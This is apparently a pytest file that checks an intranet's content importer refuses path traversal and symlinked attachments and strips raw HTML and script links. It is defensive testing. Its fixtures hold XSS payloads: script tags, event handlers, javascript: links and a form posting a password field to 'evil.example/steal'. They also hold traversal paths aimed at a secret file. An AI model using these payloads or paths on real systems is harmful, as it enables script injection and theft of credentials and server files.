"""`import_content` given hostile files: nothing outside the imported folder is
read, and no raw HTML, event handler or script link reaches a page."""

import os
from io import StringIO

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from wagtail.documents import get_document_model

from intranet.importing import ImportProblem, parse_file
from resources.models import CaseStudyPage

SECRET = "database password: hunter2"


def run_import(path):
    out, err = StringIO(), StringIO()
    try:
        call_command("import_content", str(path), stdout=out, stderr=err)
    except CommandError:
        pass
    return out.getvalue(), err.getvalue()


def document_file(folder, name, file):
    path = folder / name
    path.write_text(
        f"---\ntype: document\nslug: {path.stem}\ntitle: Minutes\nfile: {file}\n---\n",
        encoding="utf-8",
    )
    return path


@pytest.fixture
def secret(tmp_path):
    """A server file outside the folder being imported."""
    path = tmp_path / "server" / "secret.txt"
    path.parent.mkdir()
    path.write_text(SECRET)
    return path


@pytest.fixture
def folder(tmp_path):
    path = tmp_path / "knowledge" / "documents"
    path.mkdir(parents=True)
    (path / "fine.txt").write_text("The public roadmap.")
    document_file(path, "aa-fine.md", "fine.txt")
    return path.parent


@pytest.mark.django_db
def test_attachments_outside_the_imported_folder_are_refused(
    home, folder, secret, client
):
    documents = folder / "documents"
    relative = os.path.relpath(secret, documents)
    climbing = document_file(documents, "climbing.md", relative)
    absolute = document_file(documents, "absolute.md", str(secret))
    (documents / "linked.txt").symlink_to(secret)
    linked = document_file(documents, "linked.md", "linked.txt")
    (documents / "outside-dir").symlink_to(secret.parent, target_is_directory=True)
    through_dir = document_file(documents, "through-dir.md", "outside-dir/secret.txt")

    out, err = run_import(folder)

    for path, message in (
        (climbing, f"attachment '{relative}' is outside the imported folder"),
        (absolute, f"attachment '{secret}' is an absolute path"),
        (linked, "attachment 'linked.txt' is outside the imported folder"),
        (through_dir, "attachment 'outside-dir/secret.txt' is outside the imported"),
    ):
        assert f"{path}:5: {message}" in err, err
    # The error policy is unchanged: the good file is still imported.
    assert "1 created" in out and "4 skipped" in out
    documents = get_document_model().objects.all()
    assert [document.title for document in documents] == ["Minutes"]
    response = client.get(documents[0].url)
    assert SECRET not in b"".join(response.streaming_content).decode()


def test_a_single_file_may_not_reach_above_its_own_folder(tmp_path, secret):
    inner = tmp_path / "inner"
    inner.mkdir()
    path = document_file(inner, "climbing.md", "../server/secret.txt")

    with pytest.raises(ImportProblem) as problem:
        parse_file(path)

    assert "is outside the imported folder" in str(problem.value)


def test_a_markdown_file_linked_from_outside_is_not_read(tmp_path, secret):
    folder = tmp_path / "knowledge"
    folder.mkdir()
    outside = tmp_path / "server" / "page.md"
    outside.write_text("---\ntype: case_study\nslug: s\ntitle: T\nsummary: s\n---\n")
    (folder / "page.md").symlink_to(outside)

    _out, err = run_import(folder)

    assert "page.md:1: the file is a link to a place outside the imported folder" in (
        err
    )


HOSTILE_BODY = """\
Opening text <script>document.title='owned'</script> goes on.

<iframe src="https://evil.example/frame"></iframe>

<img src="x" onerror="alert('img')">

<form action="https://evil.example/steal"><input name="password"></form>

Read [the minutes](javascript:alert('link')) or [this](data:text/html,<b>x</b>)
or <a href="JaVaScRiPt:alert(1)" onclick="alert(2)" style="color:red">that</a>,
but **keep** [the roadmap](https://example.org/roadmap) and *this*.

## Challenge

<script>alert('challenge')</script>A *real* challenge.

## Voices

<svg onload="alert('svg')"></svg><object data="x.swf"></object>Miners spoke.
"""

FORBIDDEN = (
    "<script",
    "owned",
    "<iframe",
    "<img",
    "onerror",
    "<form",
    "evil.example",
    "javascript:",
    "data:text",
    "onclick",
    "<svg",
    "onload",
    "<object",
    'style="color',
)


@pytest.mark.django_db
def test_raw_html_and_script_links_never_reach_the_page(tmp_path, home, client):
    folder = tmp_path / "knowledge"
    folder.mkdir()
    (folder / "hostile.md").write_text(
        "---\ntype: case_study\nslug: hostile\ntitle: Hostile\nsummary: s\n---\n"
        + HOSTILE_BODY,
        encoding="utf-8",
    )

    _out, err = run_import(folder)

    assert err == ""
    page = CaseStudyPage.objects.get(slug="hostile")
    stored = page.challenge + str(page.body.raw_data)
    for fragment in FORBIDDEN:
        assert fragment.lower() not in stored.lower(), fragment
    assert page.challenge == "<p>A <em>real</em> challenge.</p>"
    html = client.get(page.url).content.decode()
    html = html.split("<main", 1)[1].split("</main>", 1)[0]
    for fragment in FORBIDDEN:
        assert fragment not in html, fragment
    assert '<a href="https://example.org/roadmap">the roadmap</a>' in html
    assert "<strong>keep</strong>" in html
    assert "Miners spoke." in html
